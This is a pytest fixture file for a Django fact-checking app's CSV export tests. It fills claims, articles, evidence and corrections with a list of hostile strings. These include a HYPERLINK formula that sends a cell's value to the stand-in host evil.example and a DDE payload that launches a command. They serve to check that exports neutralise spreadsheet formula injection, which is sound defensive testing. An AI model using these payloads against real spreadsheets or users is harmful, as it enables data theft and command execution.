"""Data the export tests share."""

from datetime import UTC, datetime, timedelta

import pytest
from django.utils import timezone

from claims import corrections
from claims.models import Claim, Evidence, Topic
from tests.exports.data import verdict_claim
from tests.factories import ArticleFactory, rating

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' leading space, "quoted", trailing ',
    "Строка по-русски, 中文, العربية\r\nwith CRLF and\ttab",
    "'already an apostrophe",
    "back\\slash and 100% and %s and %(x)s",
]


@pytest.fixture
def newsroom(editor, editor2, checker):
    """Claims covering every cell the CSV writes, hostile text in each."""
    economy = Topic.objects.get(slug="economy")
    others = list(Topic.objects.exclude(pk=economy.pk).order_by("-name")[:2])
    claims = []
    for i, payload in enumerate(HOSTILE):
        article = ArticleFactory(
            url=f'https://news.example.com/{i}?a=1,b="2"' if i % 3 else ("" if i == 0 else None),
            title=payload,
            publisher=payload if i % 2 else "",
            author=payload,
            published_at=None if i % 4 == 0 else timezone.now() - timedelta(days=i),
        )
        claim = verdict_claim(
            author=checker,
            decider=editor,
            text=f"{payload} (claim {i})" if i % 2 else payload,
            claimant=payload if i % 3 else "",
            claimant_type="Organization" if i == 5 else "",
            summary=payload,
            rationale=f"{payload}\nsecond line, with a comma" if i % 2 else "",
            rating_slug=["false", "misleading", "true", "half-true", None][i % 5],
            evidence=(),
            article=article,
            state=Claim.State.PUBLISHED if i % 2 else Claim.State.APPROVED,
            # Whole seconds: isoformat() then writes no microseconds.
            published_at=datetime(2026, 3, 5, 23, 30, 0, tzinfo=UTC),
        )
        if i % 3 == 0:
            claim.topics.add(economy, *others)
        elif i % 3 == 1:
            claim.topics.add(others[0])
        claims.append(claim)
    checked = datetime(2026, 3, 5, 22, 45, 10, 123456, tzinfo=UTC)
    sources = [
        {},
        {"link_status": "ok", "http_status": 200, "checked_at": checked},
        {
            "link_status": "gone",
            "http_status": 404,
            "checked_at": checked,
            "archive_url": "https://archive.example/x",
        },
        {"link_status": "error", "http_status": None, "checked_at": None},
        {"link_status": "timed_out", "http_status": 0, "checked_at": checked},
        {"excerpt": "a quote", "quote_status": "found", "checked_at": checked, "link_status": "ok"},
        {
            "excerpt": "a quote",
            "quote_status": "not_found",
            "checked_at": checked,
            "link_status": "moved",
            "quote_checked_at": checked + timedelta(days=40),
        },
        {
            "excerpt": "a quote",
            "quote_status": "not_found",
            "checked_at": checked,
            "link_status": "blocked",
        },
        {
            "excerpt": "a quote",
            "quote_status": "pending",
            "checked_at": checked,
            "link_status": "ok",
        },
        {"excerpt": "a quote", "quote_status": "pending"},
        {"excerpt": " \u3000\n\u2028\x1f ", "quote_status": "found"},  # only whitespace: no quote
        {"excerpt": "\u200b", "quote_status": "found"},  # not whitespace to Python: a quote
        {"stance": "refutes", "title": "=1+1", "url": 'https://x.example/a,b"c"\nd'},
        {"stance": "supports", "title": "", "url": "-https://y.example/"},
    ]
    for i, extra in enumerate(sources):
        claim = claims[i % len(claims)]
        Evidence.objects.create(
            claim=claim,
            url=extra.pop("url", f"https://src.example.org/{i}"),
            title=extra.pop("title", f'Source {i}, "{HOSTILE[i % len(HOSTILE)]}"'),
            publisher="Statistics Office",
            **extra,
        )
    # Corrections: an approved one adding and withdrawing sources, a pending one adding one.
    corrected = claims[1]
    kept, withdrawn = Evidence.objects.filter(claim=corrected).order_by("pk")[:2]
    corrections.correction_propose(
        claim_id=corrected.pk,
        actor=editor,
        rating_id=rating("half-true").pk,
        summary="Partly right after all.",
        rationale="Revised figures.",
        note="=Revised figures were published.",
        add_evidence=[{"url": "https://added.example.org/x", "title": "+Added"}],
        withdraw_evidence=[withdrawn.pk],
    )
    corrections.correction_approve(claim_id=corrected.pk, actor=editor2)
    pending = claims[3]
    corrections.correction_propose(
        claim_id=pending.pk,
        actor=editor,
        rating_id=rating("false").pk,
        summary="Not yet.",
        rationale="",
        note="Waiting.",
        add_evidence=[{"url": "https://pending.example.org/x", "title": "Pending"}],
    )
    # A duplicate, a submitted claim and a claim without any verdict (editors may export them).
    verdict_claim(author=checker, decider=editor, duplicate_of=claims[1], rating_slug="false")
    verdict_claim(author=checker, decider=editor, state=Claim.State.SUBMITTED)
    verdict_claim(author=checker, decider=editor, state=Claim.State.OPEN, rating_slug=None)
    return claims
